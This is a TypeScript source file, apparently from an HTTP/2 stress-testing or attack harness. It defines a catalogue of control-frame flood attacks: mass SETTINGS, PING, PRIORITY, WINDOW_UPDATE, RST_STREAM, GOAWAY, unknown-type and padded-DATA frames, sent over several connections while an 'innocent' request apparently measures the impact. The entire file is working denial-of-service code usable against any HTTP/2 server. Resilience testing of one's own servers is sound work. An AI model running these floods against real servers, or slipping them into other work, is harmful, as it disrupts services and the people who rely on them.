import type { Attack } from "../attack.js";
import type { AttackClass } from "../attack-class.js";
import { OPENING } from "../raw/connection.js";
import {
  data,
  END_STREAM,
  frame,
  FrameType,
  HEADER_TABLE_SIZE,
  headers,
  INITIAL_WINDOW_SIZE,
  PADDED,
  repeated,
  reset,
  settings,
  uint32,
  windowUpdate,
} from "../raw/frames.js";
import { CHECK, CHECK_PATH, requestBlock } from "../raw/requests.js";

const CONNECTIONS = 8;
const FRAMES_A_WRITE = 1_000;
const OPEN_CALLS = 989;
const UNKNOWN_TYPE = 0xf0;
const BLOCK = requestBlock(CHECK_PATH);

/** The same bytes over and over, on connections that each carry an innocent call as stream 1. */
function flooding(bytes: Buffer, opening: Buffer = OPENING) {
  return (attack: Attack) => attack.flood({ connections: CONNECTIONS, hasInnocent: true, opening }, () => bytes);
}

/** The same over an open call: its headers first, as stream 3. */
function floodingCall(bytes: Buffer) {
  return (attack: Attack) =>
    attack.flood({ connections: CONNECTIONS, hasInnocent: true }, (connection) => {
      if (connection.nextStream > 3) return bytes;
      return headers(connection.takeStream(), BLOCK);
    });
}

/** SETTINGS, each of which changes the window of everything that is open. */
function settingsOverOpenCalls(attack: Attack): Promise<void> {
  const changes = repeated(500, (index) => settings([INITIAL_WINDOW_SIZE, 65_535 + (index & 1)]));
  return attack.flood({ connections: 4, hasInnocent: true }, (connection) => {
    if (connection.nextStream > 3) return changes;
    return repeated(OPEN_CALLS, () => headers(connection.takeStream(), BLOCK));
  });
}

/** Table sizes that go up and down, with a call now and then so that the server has to signal them. */
function tableFlips(attack: Attack): Promise<void> {
  const flips = repeated(200, (index) => settings([HEADER_TABLE_SIZE, (index & 1) * 4_096]));
  return attack.flood({ connections: CONNECTIONS, hasInnocent: true }, (connection) => {
    if (connection.openCalls > 500) return undefined;
    const stream = connection.takeStream();
    return Buffer.concat([flips, headers(stream, BLOCK), data(stream, CHECK, END_STREAM)]);
  });
}

function unreadPings(attack: Attack): Promise<void> {
  const pings = repeated(FRAMES_A_WRITE, () => frame(FrameType.Ping, 0, 0, Buffer.alloc(8)));
  return attack.flood({ connections: CONNECTIONS, isReading: false }, () => pings);
}

function unreadSettings(attack: Attack): Promise<void> {
  const all = repeated(FRAMES_A_WRITE, () => settings());
  return attack.flood({ connections: CONNECTIONS, isReading: false }, () => all);
}

function resetsOfClosed(attack: Attack): Promise<void> {
  const resets = repeated(FRAMES_A_WRITE, () => reset(3));
  return attack.flood({ connections: CONNECTIONS, hasInnocent: true }, (connection) => {
    if (connection.nextStream > 3) return resets;
    const stream = connection.takeStream();
    return Buffer.concat([headers(stream, BLOCK), reset(stream)]);
  });
}

/** Empty DATA: legal, and free of flow control. */
const EMPTY_DATA = repeated(FRAMES_A_WRITE, () => data(3, Buffer.alloc(0)));

/** One byte of data, and all that padding can be. */
function paddedData(attack: Attack): Promise<void> {
  const payload = Buffer.concat([Buffer.of(255), Buffer.alloc(1), Buffer.alloc(255)]);
  return attack.flood({ connections: CONNECTIONS, hasInnocent: true }, (connection) => {
    const isFirst = connection.nextStream === 3;
    const stream = isFirst ? connection.takeStream() : connection.nextStream - 2;
    const begin = isFirst ? [headers(stream, BLOCK)] : [];
    const frames = Math.min(100, Math.floor(connection.room(stream) / payload.length));
    if (!isFirst && frames === 0) {
      // What the server takes of one call is used up: the next.
      const next = connection.takeStream();
      return Buffer.concat([reset(stream), headers(next, BLOCK)]);
    }
    return Buffer.concat([...begin, ...Array.from({ length: frames }, () => connection.data(stream, payload, PADDED))]);
  });
}

export const CONTROL_FRAMES: readonly AttackClass[] = [
  { name: "settings", title: "SETTINGS, empty", run: flooding(repeated(FRAMES_A_WRITE, () => settings())) },
  {
    name: "settings-many",
    title: "SETTINGS of 2,700 entries each",
    run: flooding(
      repeated(10, () =>
        settings(...Array.from({ length: 2_700 }, (_, index) => [INITIAL_WINDOW_SIZE, 65_535 + (index & 1)] as const)),
      ),
    ),
  },
  { name: "settings-open-calls", title: "SETTINGS over 990 open calls", run: settingsOverOpenCalls },
  {
    name: "settings-windows",
    title: "SETTINGS: initial windows of 0 and 2³¹ − 1 in turns",
    run: flooding(
      repeated(FRAMES_A_WRITE, (index) => settings([INITIAL_WINDOW_SIZE, index % 2 === 0 ? 0 : 0x7fff_ffff])),
    ),
  },
  { name: "settings-tables", title: "SETTINGS: table sizes of 0 and 4096 in turns, with calls", run: tableFlips },
  { name: "settings-unread", title: "SETTINGS whose acknowledgements are not read", run: unreadSettings },
  {
    name: "ping",
    title: "PING",
    run: flooding(
      repeated(FRAMES_A_WRITE, (index) => frame(FrameType.Ping, 0, 0, Buffer.concat([uint32(index), uint32(0)]))),
    ),
  },
  { name: "ping-unread", title: "PING whose answers are not read", run: unreadPings },
  {
    name: "priority",
    title: "PRIORITY of streams that are not there",
    run: flooding(
      repeated(FRAMES_A_WRITE, (index) =>
        frame(FrameType.Priority, 0, 3 + 2 * index, Buffer.concat([uint32(1), Buffer.of(7)])),
      ),
    ),
  },
  {
    name: "window-update",
    title: "WINDOW_UPDATE of 1 for the connection",
    run: flooding(
      repeated(FRAMES_A_WRITE, () => windowUpdate(0, 1)),
      settings(),
    ),
  },
  {
    name: "window-update-stream",
    title: "WINDOW_UPDATE of 1 for an open call",
    run: floodingCall(repeated(FRAMES_A_WRITE, () => windowUpdate(3, 1))),
  },
  { name: "empty-data", title: "Empty DATA", run: floodingCall(EMPTY_DATA) },
  { name: "resets-of-closed", title: "RST_STREAM of a call that is over", run: resetsOfClosed },
  {
    name: "unknown-frames",
    title: "Frames of an unknown type",
    run: flooding(repeated(FRAMES_A_WRITE, () => frame(UNKNOWN_TYPE, 0xff, 0, Buffer.alloc(16)))),
  },
  {
    name: "goaway",
    title: "GOAWAY from the client",
    run: flooding(repeated(FRAMES_A_WRITE, () => frame(FrameType.GoAway, 0, 0, Buffer.concat([uint32(0), uint32(0)])))),
  },
  { name: "padding", title: "DATA of one byte and 255 bytes of padding", run: paddedData },
];
